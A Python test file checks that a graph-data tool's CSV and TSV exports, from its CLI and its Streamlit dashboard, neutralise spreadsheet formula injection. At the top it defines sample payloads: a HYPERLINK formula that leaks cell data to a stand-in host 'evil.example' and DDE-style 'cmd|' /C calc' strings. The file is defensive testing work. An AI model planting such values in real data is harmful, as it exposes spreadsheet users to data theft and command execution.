"""Formula injection (SECURITY T19): a name or address imported from a CSV that a
spreadsheet would run as a formula comes out inert in every CSV meant for
spreadsheets (CLI query, metrics and gaps; the console's and the gaps page's
downloads); numbers stay numbers; ``query --raw`` keeps values exactly."""

from __future__ import annotations

import csv
import io
import shutil
from pathlib import Path

import pytest
from streamlit.navigation.page import calc_hash
from streamlit.testing.v1 import AppTest

from graph.cli import main
from graph.results import FORMULA_STARTS, spreadsheet_cell
from graph.settings import DATA_DIR

ROOT = Path(__file__).resolve().parent.parent
NAME = '=HYPERLINK("http://evil.example/?leak="&A1;"click")'
NAME_EN = "-2+3+cmd|' /C calc'!A0"
ADDRESS = "@SUM(1+1)*cmd|' /C calc'!A0"
PAYLOADS = (NAME, NAME_EN, ADDRESS)
QUERY = (
    "PREFIX skos: <http://www.w3.org/2004/02/skos/core#> PREFIX schema: <https://schema.org/> "
    "SELECT ?name ?address WHERE { ?org schema:address ?address ; skos:prefLabel ?name }"
)


@pytest.mark.parametrize(
    "value, cell",
    [
        ("=1+1", "'=1+1"),
        ("+48 41 275 11 11", "'+48 41 275 11 11"),
        ("-cmd", "'-cmd"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("-1.5", "-1.5"),
        ("+3", "+3"),
        ("-2e5", "-2e5"),
        ("-0,25", "-0,25"),
        (-7, "-7"),
        ("Spółdzielnia = zysk", "Spółdzielnia = zysk"),
        ("", ""),
    ],
)
def test_a_cell_that_would_run_gets_an_apostrophe_and_numbers_stay(value, cell):
    assert spreadsheet_cell(value) == cell


@pytest.fixture(scope="module")
def hostile_data(tmp_path_factory) -> Path:
    """The bundled data with one organisation imported through the real CSV import."""
    folder = tmp_path_factory.mktemp("formula")
    data = folder / "entities.ttl"
    shutil.copyfile(DATA_DIR / "entities.ttl", data)
    orgs = folder / "organisations.csv"
    with orgs.open("w", newline="", encoding="utf-8") as f:
        w = csv.writer(f, delimiter=";")
        w.writerow(["name", "name_en", "kind", "teryt", "address", "source"])
        w.writerow([NAME, NAME_EN, "association", "2611011", ADDRESS, "Statut"])
    assert main(["import", str(orgs), "--data", str(data), "--user", "Ala"]) == 0
    return data


def _cells(text: str, delimiter: str = ",") -> list[str]:
    """Every cell of a CSV (or TSV) that holds one of the payloads."""
    rows = csv.reader(io.StringIO(text), delimiter=delimiter)
    return [c for row in rows for c in row if any(p[1:12] in c for p in PAYLOADS)]


def _inert(cells: list[str]) -> None:
    """No cell starts as a formula; the cells that were one start with the apostrophe."""
    assert any(c.startswith(("'=HYPERLINK", "'@SUM", "'-2+3")) for c in cells), cells
    for c in cells:
        assert not c.startswith(FORMULA_STARTS), c


def _cli(capsys, *args: str) -> str:
    assert main(list(args)) == 0
    return capsys.readouterr().out


def test_cli_csv_files_show_the_payloads_inert(hostile_data: Path, capsys):
    data = ("--data", str(hostile_data))
    out = _cli(capsys, "query", QUERY, "--format", "csv", *data)
    cells = _cells(out)
    _inert(cells)
    assert set(cells) == {"'" + NAME, "'" + NAME_EN, "'" + ADDRESS}  # nothing else changed
    # TSV keeps Turtle syntax: the apostrophe goes inside the literal
    tsv = _cli(capsys, "query", QUERY, "--format", "tsv", *data)
    assert "\"'@SUM(1+1)*cmd|' /C calc'!A0\"" in tsv and '"@SUM' not in tsv
    # --raw: exactly what the data holds, for analysts' tools
    raw = _cells(_cli(capsys, "query", QUERY, "--format", "csv", "--raw", *data))
    assert set(raw) == {NAME, NAME_EN, ADDRESS}
    metrics = _cli(capsys, "metrics", *data)
    _inert(_cells(metrics))
    frame = list(csv.DictReader(io.StringIO(metrics)))
    assert all(float(r["degree"]) >= 0 for r in frame)  # numbers are still numbers
    _inert(_cells(_cli(capsys, "gaps", "--format", "csv", *data)))


def _downloaded(at: AppTest, media: list, label: str) -> str:
    button = next(b for b in at.get("download_button") if b.label == label)
    name = button.proto.url.rsplit("/", 1)[-1]
    for storage in reversed(media):
        try:
            return storage.get_file(name).content.decode("utf-8")
        except Exception:  # noqa: BLE001 - another run's storage
            continue
    raise AssertionError(f"no media file {name}")


def test_dashboard_downloads_show_the_payloads_inert(hostile_data: Path, monkeypatch, media):
    monkeypatch.setenv("GRAPH_DATA", str(hostile_data))
    for name in ("GRAPH_BACKEND", "GRAPH_SPARQL_QUERY_URL", "GRAPH_QUERY_TIMEOUT", "GRAPH_MAX_ROWS"):
        monkeypatch.delenv(name, raising=False)
    at = AppTest.from_file(str(ROOT / "app.py"), default_timeout=120).run()
    # the console: a query run from its shared address (?q=, the path the editor's Run takes;
    # the editor itself is a browser component, driven in tests/test_browser_a11y.py), downloaded as CSV and TSV
    at._page_hash = calc_hash("console")  # noqa: SLF001 - function pages have no file to switch_page to
    at.query_params["q"] = QUERY
    at.run()
    assert not at.exception, at.exception
    _inert(_cells(_downloaded(at, media, "Pobierz CSV")))
    assert "\"'=HYPERLINK(" in _downloaded(at, media, "Pobierz TSV")
    # the gaps page's findings
    at._page_hash = calc_hash("gaps")  # noqa: SLF001
    at.run()
    assert not at.exception, at.exception
    _inert(_cells(_downloaded(at, media, "Ustalenia (CSV)")))
